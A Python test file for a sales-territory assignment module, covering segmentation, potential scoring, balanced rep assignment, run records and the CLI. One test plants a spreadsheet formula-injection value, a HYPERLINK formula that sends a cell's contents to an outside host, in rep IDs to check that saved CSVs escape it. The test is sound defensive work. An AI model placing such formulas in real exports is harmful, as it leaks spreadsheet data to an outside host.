"""Tests of revmodel.territory: segmentation, potential, balanced assignment, records, CLI."""

from __future__ import annotations

import json
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from revmodel import config, territory
from revmodel.errors import DataError, InfeasibleError, ParameterError

# --------------------------------------------------------------------------- fixtures


def tiny_book(owner="R1"):
    """6 accounts (potential 6..1) all owned by R1, and 2 reps in one group."""
    accounts = pd.DataFrame(
        {
            "account_id": [f"A{i}" for i in range(1, 7)],
            "region": "EU",
            "segment": "SMB",
            "owner_rep_id": owner,
        }
    )
    reps = pd.DataFrame({"rep_id": ["R1", "R2"], "region": "EU", "segment": "SMB"})
    potential = pd.Series([6.0, 5.0, 4.0, 3.0, 2.0, 1.0], index=accounts["account_id"])
    return accounts, reps, potential


def random_book(n, m, seed, groups=(("EU", "SMB"),)):
    rng = np.random.default_rng(seed)
    rows, rep_rows = [], []
    for gi, (region, segment) in enumerate(groups):
        rep_ids = [f"R{gi}_{j}" for j in range(m)]
        rep_rows += [{"rep_id": r, "region": region, "segment": segment} for r in rep_ids]
        owners = rng.choice(rep_ids, size=n, p=np.linspace(1, 3, m) / np.linspace(1, 3, m).sum())
        rows += [
            {"account_id": f"A{gi}_{i}", "region": region, "segment": segment, "owner_rep_id": o}
            for i, o in enumerate(owners)
        ]
    accounts = pd.DataFrame(rows)
    potential = pd.Series(100 * rng.lognormal(0, 0.6, len(accounts)), index=accounts["account_id"])
    return accounts, pd.DataFrame(rep_rows), potential


def per_rep(plan):
    b = plan.balance.set_index("rep_id")
    return b["potential_after"].to_dict(), b["accounts_after"].to_dict()


# --------------------------------------------------------------------------- segmentation and potential


def test_segment_accounts_default_bands_and_given_labels():
    acc = pd.DataFrame(
        {
            "account_id": ["a", "b", "c", "d", "e"],
            "employees": [10, 200, 5000, np.nan, np.nan],
            "segment": [None, None, None, "Enterprise", None],
            "region": ["EMEA", None, "NA", "NA", "NA"],
        }
    )
    out = territory.segment_accounts(acc)
    assert out["segment"].tolist() == [
        "SMB",
        "Mid-Market",
        "Enterprise",
        "Enterprise",
        config.PLACEHOLDER,
    ]
    assert out["region"].tolist() == ["EMEA", config.PLACEHOLDER, "NA", "NA", "NA"]
    assert out["country"].tolist() == [config.PLACEHOLDER] * 5
    assert out["employee_band"].tolist()[:3] == ["SMB", "Mid-Market", "Enterprise"]
    assert "employee_band" not in acc.columns  # input untouched


def test_segment_accounts_custom_bands_override_given():
    acc = pd.DataFrame({"account_id": ["a", "b"], "employees": [50, 150], "segment": ["X", "X"]})
    bands = (("Small", 0, 100), ("Large", 100, float("inf")))
    assert territory.segment_accounts(acc, bands).segment.tolist() == ["X", "X"]
    assert territory.segment_accounts(acc, bands, keep_given=False).segment.tolist() == [
        "Small",
        "Large",
    ]


def test_segment_bands_overlap_is_a_parameter_error():
    with pytest.raises(
        ParameterError,
        match=re.escape(
            "bands: segments 'A' and 'B' overlap; make each upper bound the next lower bound."
        ),
    ):
        territory.segment_accounts(
            pd.DataFrame({"account_id": ["a"]}), (("A", 0, 100), ("B", 50, 200))
        )


def test_account_potential_exact_values():
    acc = pd.DataFrame(
        {"account_id": ["A1", "A2"], "annual_revenue": [100.0, 300.0], "employees": [10, 30]}
    )
    opp = pd.DataFrame(
        {
            "opportunity_id": ["o1", "o2", "o3"],
            "account_id": ["A1", "A2", "A2"],
            "amount": [50.0, 150.0, 999.0],
            "stage": ["won", "proposal", "lost"],
        }
    )
    pot = territory.account_potential(acc, opp)
    # ratios to the mean: revenue .5/1.5, employees .5/1.5, bookings 2/0, pipeline 0/2
    assert pot.to_dict() == pytest.approx({"A1": 85.0, "A2": 115.0})
    assert pot.name == "potential" and pot.index.name == "account_id"
    only_revenue = territory.account_potential(acc, weights={"annual_revenue": 1.0})
    assert only_revenue.tolist() == pytest.approx([50.0, 150.0])


def test_account_potential_imputes_missing_revenue_and_handles_no_data():
    acc = pd.DataFrame({"account_id": ["A1", "A2", "A3"], "annual_revenue": [100.0, np.nan, 300.0]})
    assert territory.account_potential(acc).tolist() == pytest.approx([50.0, 100.0, 150.0])
    assert territory.account_potential(acc[["account_id"]]).tolist() == [100.0, 100.0, 100.0]


def test_account_potential_unknown_weight():
    acc = pd.DataFrame({"account_id": ["A1"]})
    with pytest.raises(
        ParameterError, match=re.escape("potential weights: unknown component(s) ['revenue']")
    ):
        territory.account_potential(acc, weights={"revenue": 1.0})


# --------------------------------------------------------------------------- known optimum on a hand-made book


def test_tiny_book_milp_finds_the_known_optimum():
    accounts, reps, pot = tiny_book()
    plan = territory.assign_territories(accounts, reps, pot, method="milp")
    potentials, counts = per_rep(plan)
    assert sorted(potentials.values()) == [10.0, 11.0]
    assert counts == {"R1": 3, "R2": 3}
    assert plan.summary["accounts_moved"] == 3
    g = plan.record["groups"][0]
    assert g["method"] == "milp" and g["status"] == "optimal"
    assert g["max_potential_deviation"] == pytest.approx(0.5 / 10.5)
    assert set(plan.moves["reason"]) == {territory.REASON_BALANCE}


@pytest.mark.parametrize(
    ("max_moves", "expected_potentials", "expected_moves"),
    [(0, [0.0, 21.0], 0), (1, [6.0, 15.0], 1), (2, [10.0, 11.0], 2)],
)
@pytest.mark.parametrize("method", ["milp", "heuristic"])
def test_tiny_book_with_move_limit(method, max_moves, expected_potentials, expected_moves):
    accounts, reps, pot = tiny_book()
    plan = territory.assign_territories(accounts, reps, pot, max_moves=max_moves, method=method)
    potentials, _ = per_rep(plan)
    assert sorted(potentials.values()) == expected_potentials
    assert plan.summary["accounts_moved"] == expected_moves


def test_tiny_book_locked_account_changes_the_optimum():
    accounts, reps, pot = tiny_book()
    # lock the two largest accounts to R1: R1 must take 6+5=11, so R2 gets 4+3+2+1=10
    plan = territory.assign_territories(accounts, reps, pot, locked=["A1", "A2"], method="milp")
    a = plan.assignment.set_index("account_id")
    assert a.loc[["A1", "A2"], "new_rep_id"].tolist() == ["R1", "R1"]
    assert a.loc[["A1", "A2"], "reason"].tolist() == ["locked", "locked"]
    assert per_rep(plan)[0] == {"R1": 11.0, "R2": 10.0}


def test_pinning_to_a_named_rep_counts_as_a_move():
    accounts, reps, pot = tiny_book()
    plan = territory.assign_territories(
        accounts, reps, pot, locked={"A1": "R2"}, max_moves=1, method="milp"
    )
    a = plan.assignment.set_index("account_id")
    assert a.loc["A1", "new_rep_id"] == "R2" and bool(a.loc["A1", "moved"])
    assert plan.summary["accounts_moved"] == 1


# --------------------------------------------------------------------------- invariants


def check_invariants(accounts, reps, plan, locked, max_moves):
    a = plan.assignment
    assert len(a) == len(accounts)
    assert a["account_id"].is_unique and set(a["account_id"]) == set(accounts["account_id"])
    rep_group = {r.rep_id: (r.region, r.segment) for r in reps.itertuples()}
    assert all(
        rep_group[r] == (g, s)
        for r, g, s in zip(a["new_rep_id"], a["region"], a["segment"], strict=True)
    )
    owner = accounts.set_index("account_id")["owner_rep_id"]
    kept = a.set_index("account_id").loc[list(locked), "new_rep_id"]
    assert (kept == owner.loc[list(locked)]).all()
    if max_moves is not None:
        assert a["moved"].sum() <= max_moves
    assert (a["moved"] == (a["old_rep_id"].notna() & (a["old_rep_id"] != a["new_rep_id"]))).all()
    b = plan.balance
    assert b["accounts_after"].sum() == len(accounts)
    assert b["potential_after"].sum() == pytest.approx(a["potential"].sum())


@pytest.mark.parametrize("method", ["milp", "heuristic"])
def test_invariants_on_a_two_group_book(method):
    accounts, reps, pot = random_book(14, 3, seed=3, groups=(("EU", "SMB"), ("NA", "SMB")))
    locked = ["A0_0", "A0_5", "A1_2"]
    plan = territory.assign_territories(
        accounts, reps, pot, max_moves=6, locked=locked, method=method, time_limit=5
    )
    check_invariants(accounts, reps, plan, locked, 6)
    assert [g["method"] for g in plan.record["groups"]] in (["milp", "milp"], ["heuristic"] * 2)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    n=st.integers(1, 30),
    m=st.integers(1, 4),
    seed=st.integers(0, 10_000),
    max_moves=st.none() | st.integers(0, 10),
    n_locked=st.integers(0, 3),
)
def test_heuristic_invariants_property(n, m, seed, max_moves, n_locked):
    accounts, reps, pot = random_book(n, m, seed)
    locked = accounts["account_id"].iloc[: min(n_locked, n)].tolist()
    plan = territory.assign_territories(
        accounts, reps, pot, max_moves=max_moves, locked=locked, method="heuristic"
    )
    check_invariants(accounts, reps, plan, locked, max_moves)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    n=st.integers(1, 8),
    m=st.integers(1, 3),
    seed=st.integers(0, 10_000),
    max_moves=st.none() | st.integers(0, 4),
)
def test_milp_invariants_property(n, m, seed, max_moves):
    accounts, reps, pot = random_book(n, m, seed)
    locked = accounts["account_id"].iloc[:1].tolist()
    plan = territory.assign_territories(
        accounts, reps, pot, max_moves=max_moves, locked=locked, method="milp"
    )
    check_invariants(accounts, reps, plan, locked, max_moves)


def test_heuristic_balances_a_larger_group_within_five_percent():
    accounts, reps, pot = random_book(600, 6, seed=11)
    plan = territory.assign_territories(
        accounts, reps, pot
    )  # 3,600 binaries: the heuristic under "auto"
    assert plan.record["groups"][0]["method"] == "heuristic"
    assert plan.balance["within_tolerance"].all()
    s = plan.summary
    assert s["spread_after_max_over_mean"] <= 1.05 and s["spread_after_min_over_mean"] >= 0.95
    assert s["spread_before_max_over_mean"] > 1.2


def test_reps_who_left_hand_over_their_accounts():
    accounts, reps, pot = tiny_book()
    reps = pd.DataFrame(
        {
            "rep_id": ["R1", "R2", "R3"],
            "region": "EU",
            "segment": "SMB",
            "end_date": [None, None, "2026-03-31"],
        }
    )
    accounts = accounts.assign(owner_rep_id=["R3", "R3", "R1", "R1", "R2", None])
    plan = territory.assign_territories(accounts, reps, pot, method="milp", as_of="2027-02-01")
    a = plan.assignment.set_index("account_id")
    assert a.loc[["A1", "A2"], "reason"].tolist() == ["owner left", "owner left"]
    assert a.loc[["A1", "A2"], "moved"].all()
    assert a.loc["A6", "reason"] == "no previous owner" and not a.loc["A6", "moved"]
    assert set(a["new_rep_id"]) <= {"R1", "R2"}
    b = plan.balance.set_index("rep_id")
    assert b.loc["R3", "status"] == "left" and b.loc["R3", "accounts_after"] == 0
    assert plan.summary["forced_moves"] == 2
    # before the rep's end date the plan keeps them
    still = territory.assign_territories(accounts, reps, pot, method="milp", as_of="2026-01-01")
    assert still.balance.set_index("rep_id").loc["R3", "status"] == "active"


def test_reps_without_segment_serve_every_segment_of_their_region():
    accounts = pd.DataFrame(
        {
            "account_id": ["a", "b", "c"],
            "region": "EU",
            "segment": ["SMB", "Enterprise", "SMB"],
            "owner_rep_id": "R1",
        }
    )
    reps = pd.DataFrame({"rep_id": ["R1", "R2"], "region": ["EU", "EU"]})
    pot = pd.Series([1.0, 1.0, 2.0], index=["a", "b", "c"])
    plan = territory.assign_territories(accounts, reps, pot, method="milp")
    assert plan.record["grouping"] == {"by_region": True, "by_segment": False}
    assert sorted(per_rep(plan)[0].values()) == [2.0, 2.0]


# --------------------------------------------------------------------------- infeasible settings and bad input


def test_group_without_active_rep_is_listed_as_unassigned_not_a_failed_run():
    accounts, reps, pot = tiny_book()
    accounts.loc[0, "region"] = "APAC"
    plan = territory.assign_territories(accounts, reps, pot)
    a = plan.assignment.set_index("account_id")
    first = accounts["account_id"].iloc[0]
    assert a.loc[first, "new_rep_id"] is None
    assert not a.loc[first, "moved"]
    assert (
        a.loc[first, "reason"] == "unassigned: no active rep sells to region 'APAC', segment 'SMB'"
    )
    assert a.drop(index=first)["new_rep_id"].notna().all()
    assert plan.record["unassigned"] == [
        {
            "region": "APAC",
            "segment": "SMB",
            "accounts": 1,
            "reason": "no active rep sells to region 'APAC', segment 'SMB'",
        }
    ]
    assert plan.summary["unassigned_accounts"] == 1
    assert list(territory.unassigned_accounts(plan)["account_id"]) == [first]
    report = territory.balance_report(plan)
    assert (
        "Unassigned accounts (1): no active rep can take them\n"
        "  region 'APAC', segment 'SMB': 1 account(s); no active rep sells to region 'APAC', "
        "segment 'SMB': hire or move a rep there, or correct these accounts' region/segment"
    ) in report
    # Potential of the rest is balanced over the reps who can take it.
    placed = plan.assignment.dropna(subset=["new_rep_id"])
    assert plan.balance["potential_after"].sum() == pytest.approx(placed["potential"].sum())
    again = territory.rerun(plan.record)
    assert again.assignment.equals(plan.assignment)


def test_accounts_without_region_or_segment_take_their_owner_reps():
    accounts = pd.DataFrame(
        {
            "account_id": ["a", "b", "c", "d"],
            "region": ["EU", None, None, None],
            "segment": ["SMB", None, "SMB", None],
            "owner_rep_id": ["R1", "R2", "R3", None],
        }
    )
    reps = pd.DataFrame(
        {
            "rep_id": ["R1", "R2", "R3"],
            "region": ["EU", "EU", "US"],
            "segment": ["SMB", "SMB", "SMB"],
        }
    )
    pot = pd.Series([1.0, 1.0, 1.0, 1.0], index=["a", "b", "c", "d"])
    plan = territory.assign_territories(accounts, reps, pot, method="milp")
    a = plan.assignment.set_index("account_id")
    assert a.loc["b", ["region", "segment"]].tolist() == ["EU", "SMB"]  # R2's
    assert a.loc["c", ["region", "segment"]].tolist() == ["US", "SMB"]  # R3's region
    assert a.loc["c", "new_rep_id"] == "R3"
    # No owner to take them from: listed as unassigned with the reason.
    assert a.loc["d", "new_rep_id"] is None
    assert a.loc["d", "reason"] == (
        "unassigned: no active rep sells to region '(unassigned)', segment '(unassigned)'"
    )


def test_max_moves_below_forced_moves_is_infeasible():
    accounts, reps, pot = tiny_book(owner="R9")
    reps = pd.concat(
        [
            reps,
            pd.DataFrame(
                {"rep_id": ["R9"], "region": ["EU"], "segment": ["SMB"], "end_date": ["2026-01-31"]}
            ),
        ]
    )
    with pytest.raises(
        InfeasibleError,
        match=re.escape(
            "max_moves=2 is below the 6 forced move(s) of accounts whose owner left, sells to another "
            "region/segment or is unknown, or that are locked to a new rep (region 'EU', segment 'SMB': 6); "
            "raise max_moves to at least 6."
        ),
    ):
        territory.assign_territories(accounts, reps, pot, max_moves=2)


def test_locked_potential_beyond_hard_tolerance_is_infeasible():
    accounts, reps, pot = tiny_book()
    with pytest.raises(
        InfeasibleError,
        match=re.escape(
            "region 'EU', segment 'SMB': rep 'R1' holds locked potential 15.0, above the ceiling 11.0 "
            "(group mean 10.5 + 5%); unlock some of its accounts or widen balance_tolerance."
        ),
    ):
        territory.assign_territories(
            accounts, reps, pot, locked=["A1", "A2", "A3"], hard_tolerance=True
        )


def test_hard_tolerance_with_too_few_moves_is_infeasible():
    accounts, reps, pot = tiny_book()
    with pytest.raises(
        InfeasibleError,
        match=re.escape(
            "region 'EU', segment 'SMB': no assignment with every rep within 5% of the mean potential and "
            "at most 1 move(s); widen balance_tolerance (or make it a target), or raise max_moves, or unlock accounts."
        ),
    ):
        territory.assign_territories(
            accounts, reps, pot, max_moves=1, hard_tolerance=True, method="milp"
        )


def test_locked_to_a_rep_who_left():
    accounts, reps, pot = tiny_book()
    reps = reps.assign(end_date=["2026-01-31", None])
    with pytest.raises(
        InfeasibleError,
        match=re.escape(
            "locked: account 'A1' is locked to rep 'R1', who has left; unlock it or name an active rep."
        ),
    ):
        territory.assign_territories(accounts, reps, pot, locked=["A1"])


def test_bad_parameters_and_missing_potential():
    accounts, reps, pot = tiny_book()
    with pytest.raises(
        ParameterError, match=re.escape("max_moves: expected a whole number >= 0, got -1.")
    ):
        territory.assign_territories(accounts, reps, pot, max_moves=-1)
    with pytest.raises(
        ParameterError, match=re.escape("as_of: cannot read 'soon' as a date; use YYYY-MM-DD.")
    ):
        territory.assign_territories(accounts, reps, pot, as_of="soon")
    with pytest.raises(
        DataError, match=re.escape("potential: no finite value for 1 account(s), e.g. A6;")
    ):
        territory.assign_territories(accounts, reps, pot.iloc[:5])
    with pytest.raises(
        DataError, match=re.escape("reps table, column 'rep_id': duplicate identifier(s) R1;")
    ):
        territory.assign_territories(accounts, pd.concat([reps, reps.iloc[:1]]), pot)


# --------------------------------------------------------------------------- record, re-run, report, cube, quota


def test_save_and_rerun_reproduce_the_assignment(tmp_path):
    accounts, reps, pot = random_book(9, 3, seed=5, groups=(("EU", "SMB"), ("NA", "SMB")))
    plan = territory.assign_territories(accounts, reps, pot, max_moves=5, locked=["A0_1"])
    paths = plan.save(tmp_path / "plan.csv")
    assert sorted(p.name for p in paths.values()) == [
        "plan.csv",
        "plan_balance.csv",
        "plan_report.txt",
        "plan_run.json",
    ]
    csv = pd.read_csv(paths["assignment"])
    assert csv["new_rep_id"].tolist() == plan.assignment["new_rep_id"].tolist()
    record = json.loads(paths["record"].read_text())
    assert record["parameters"]["max_moves"] == 5 and record["parameters"]["locked"] == ["A0_1"]
    assert {g["status"] for g in record["groups"]} == {"optimal"}
    again = territory.rerun(paths["record"])
    pd.testing.assert_frame_equal(again.assignment, plan.assignment)
    assert again.record["inputs_sha256"] == record["inputs_sha256"]
    assert again.record["result_sha256"] == record["result_sha256"]
    record["inputs"]["accounts"]["potential"][0] += 1.0
    with pytest.raises(
        DataError, match=re.escape("run record: the stored inputs do not match inputs_sha256")
    ):
        territory.rerun(record)


def test_rerun_of_a_heuristic_run_is_exact():
    accounts, reps, pot = random_book(300, 5, seed=2)
    plan = territory.assign_territories(accounts, reps, pot, max_moves=60)
    record = json.loads(json.dumps(plan.record))
    assert territory.rerun(record).assignment.equals(plan.assignment)


def test_balance_report_names_moves_and_spread():
    accounts, reps, pot = tiny_book()
    text = territory.balance_report(
        territory.assign_territories(accounts, reps, pot, max_moves=2, method="milp")
    )
    assert "accounts moved 2 (forced 0, for balance 2)" in text
    assert "before 0.000-2.000, after 0.952-1.048; reps within 5%: 100.0%" in text
    assert "Accounts moved (2)" in text


def test_account_owner_from_for_the_cube():
    accounts, reps, pot = tiny_book()
    plan = territory.assign_territories(accounts, reps, pot, max_moves=2, method="milp")
    own = territory.account_owner_from(plan, "2027-02-15")
    assert list(own.columns) == [
        "account_id",
        "rep_id",
        "from_month",
        "previous_rep_id",
        "region",
        "segment",
        "potential",
    ]
    assert (own["from_month"] == pd.Timestamp("2027-02-01")).all()
    assert own["from_month"].dtype == "datetime64[ns]"
    assert own["rep_id"].tolist() == plan.assignment["new_rep_id"].tolist()
    with pytest.raises(ParameterError, match=re.escape("month: cannot read 'next year' as a date")):
        territory.account_owner_from(plan, "next year")


def test_rep_potential_share_for_quotas():
    accounts, reps, pot = tiny_book()
    plan = territory.assign_territories(accounts, reps, pot, method="milp")
    share = territory.rep_potential(plan, share=True)
    assert share.sum() == pytest.approx(1.0)
    assert sorted(share.round(6).tolist()) == [round(10 / 21, 6), round(11 / 21, 6)]


def test_inputs_are_not_mutated():
    accounts, reps, pot = tiny_book()
    before = (accounts.copy(), reps.copy(), pot.copy())
    territory.assign_territories(accounts, reps, pot, locked=["A1"])
    pd.testing.assert_frame_equal(accounts, before[0])
    pd.testing.assert_frame_equal(reps, before[1])
    pd.testing.assert_series_equal(pot, before[2])


# --------------------------------------------------------------------------- CLI


def write_data(folder, with_reps=True):
    folder.mkdir()
    pd.DataFrame(
        {
            "account_id": ["A1", "A2", "A3", "A4"],
            "employees": [50, 60, 70, 80],
            "region": "EMEA",
            "annual_revenue": [4e6, 3e6, 2e6, 1e6],
            "owner_rep_id": ["R1", "R1", "R1", "R3"],
        }
    ).to_csv(folder / "accounts.csv", index=False)
    if with_reps:
        pd.DataFrame(
            {
                "rep_id": ["R1", "R2", "R3"],
                "region": "EMEA",
                "segment": "SMB",
                "end_date": ["", "", "2024-06-30"],
            }
        ).to_csv(folder / "reps.csv", index=False)
    pd.DataFrame(
        {
            "opportunity_id": ["o1", "o2"],
            "close_date": ["2024-01-15", "2024-02-15"],
            "amount": [1000.0, 500.0],
            "stage": ["won", "won"],
            "account_id": ["A1", "A2"],
            "rep_id": ["R1", "R1"],
        }
    ).to_csv(folder / "opportunities.csv", index=False)


def test_territories_cli_writes_assignment_and_report(tmp_path, capsys):
    from revmodel import cli

    write_data(tmp_path / "data")
    out = tmp_path / "out" / "territories.csv"
    code = cli.main(["territories", str(tmp_path / "data"), "--max-moves", "2", "--out", str(out)])
    printed = capsys.readouterr().out
    assert code == 0
    a = pd.read_csv(out)
    assert sorted(a["account_id"]) == ["A1", "A2", "A3", "A4"]
    assert set(a["new_rep_id"]) == {"R1", "R2"}
    assert a["moved"].sum() == 2
    assert a.set_index("account_id").loc["A4", "reason"] == "owner left"
    assert (tmp_path / "out" / "territories_balance.csv").exists()
    assert (tmp_path / "out" / "territories_run.json").exists()
    assert "accounts moved 2 (forced 1, for balance 1)" in printed
    assert "wrote assignment: " in printed


def test_territories_cli_infeasible_and_missing_reps(tmp_path, capsys):
    from revmodel import cli

    write_data(tmp_path / "data")
    code = cli.main(
        [
            "territories",
            str(tmp_path / "data"),
            "--max-moves",
            "0",
            "--out",
            str(tmp_path / "t.csv"),
        ]
    )
    assert code == 2
    assert "error: max_moves=0 is below the 1 forced move(s)" in capsys.readouterr().err
    write_data(tmp_path / "noreps", with_reps=False)
    code = cli.main(["territories", str(tmp_path / "noreps"), "--out", str(tmp_path / "t.csv")])
    assert code == 2
    assert "territories need a non-empty reps table; add reps.csv" in capsys.readouterr().err


@pytest.mark.slow
def test_territories_cli_on_the_sample_company(tmp_path, capsys):
    from revmodel import cli, sample

    sample.write(sample.generate(reps=24, months=24), tmp_path / "data")
    code = cli.main(
        [
            "territories",
            str(tmp_path / "data"),
            "--max-moves",
            "200",
            "--out",
            str(tmp_path / "t.csv"),
        ]
    )
    assert code == 0
    a = pd.read_csv(tmp_path / "t.csv")
    assert a["account_id"].is_unique
    assert a["moved"].sum() <= 200
    record = json.loads((tmp_path / "t_run.json").read_text())
    assert record["summary"]["accounts"] == len(a)


def test_territories_cli_locked_file_and_as_of(tmp_path, capsys):
    from revmodel import cli

    write_data(tmp_path / "data")
    locked = tmp_path / "locked.txt"
    locked.write_text("A1\nA2\n")
    out = tmp_path / "out" / "territories.csv"
    args = [
        "territories",
        str(tmp_path / "data"),
        "--locked",
        str(locked),
        "--as-of",
        "2020-01-01",
        "--out",
        str(out),
    ]
    assert cli.main(args) == 0
    a = pd.read_csv(out).set_index("account_id")
    assert list(a.loc[["A1", "A2"], "reason"]) == ["locked", "locked"]
    assert (a.loc[["A1", "A2"], "old_rep_id"] == a.loc[["A1", "A2"], "new_rep_id"]).all()
    capsys.readouterr()
    missing = [
        "territories",
        str(tmp_path / "data"),
        "--locked",
        str(tmp_path / "nope.txt"),
        "--out",
        str(out),
    ]
    assert cli.main(missing) == 2
    assert capsys.readouterr().err.strip() == (
        f"error: --locked {tmp_path / 'nope.txt'}: no such file; list the account ids to keep, one per line."
    )


def test_one_segment_band_validator_for_mappings_and_territories():
    from revmodel import schema, sources
    from revmodel.errors import DataError

    bad = [["A", 0, 100], ["B", 50, 200]]
    message = "segments 'A' and 'B' overlap; make each upper bound the next lower bound."
    with pytest.raises(DataError) as from_mapping:
        sources.parse_segment_bands(bad, "mapping.yaml: segment_bands")
    assert str(from_mapping.value) == f"mapping.yaml: segment_bands: {message}"
    with pytest.raises(ParameterError) as from_territory:
        territory.segment_accounts(pd.DataFrame({"account_id": ["a"], "employees": [5]}), bad)
    assert str(from_territory.value) == f"bands: {message}"
    with pytest.raises(ParameterError, match="segment names must be unique"):
        schema.segment_bands([["A", 0, 10], ["A", 10, None]])
    assert schema.segment_bands("S:0:10,L:10:") == (("S", 0.0, 10.0), ("L", 10.0, float("inf")))


def test_saved_assignment_names_are_inert_in_a_spreadsheet(tmp_path):
    accounts, reps, pot = random_book(6, 2, seed=3, groups=(("EU", "SMB"),))
    hostile = {r: f'=HYPERLINK("http://x"&A2,"{r}")' for r in reps["rep_id"]}
    reps = reps.assign(rep_id=reps["rep_id"].map(hostile))
    accounts = accounts.assign(owner_rep_id=accounts["owner_rep_id"].map(hostile))
    plan = territory.assign_territories(accounts, reps, pot)
    paths = plan.save(tmp_path / "plan.csv")
    for kind in ("assignment", "balance"):
        text = paths[kind].read_text(encoding="utf-8")
        cells = [c for line in text.splitlines() for c in line.split(",")]
        assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "@"))], kind
        assert "'=HYPERLINK" in text, kind


def test_a_milp_stopped_early_stops_at_a_node_count_and_gives_the_same_plan_twice(tmp_path):
    # The Mid-Market group of this company is a MILP HiGHS does not close: it stops at
    # NODE_LIMIT nodes, whatever the machine's speed, so two runs give the same territories.
    from revmodel import sample, sources

    sample.write(sample.generate(reps=12, months=36), tmp_path)
    tables = sources.load(tmp_path).tables
    start = pd.Timestamp("2026-11-01")
    first, _ = territory.cycle_territories(tables, start, balance_tolerance=0.10)
    second, _ = territory.cycle_territories(tables, start, balance_tolerance=0.10)
    stops = [g.get("status") for g in first.record["groups"]]
    assert "node limit" in stops, stops
    pd.testing.assert_frame_equal(first.assignment, second.assignment)
    assert [g["status"] for g in second.record["groups"]] == stops
